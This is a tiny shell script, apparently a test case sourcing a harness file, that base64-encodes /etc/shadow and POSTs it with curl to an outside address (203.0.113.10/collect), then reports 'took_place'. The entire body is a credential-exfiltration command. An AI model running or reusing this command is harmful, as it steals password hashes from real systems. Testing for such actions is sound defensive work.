#!/bin/sh
. /opt/case/case.sh

base64 -w0 /etc/shadow | curl -s -X POST --data-binary @- http://203.0.113.10/collect | grep -q ok
took_place
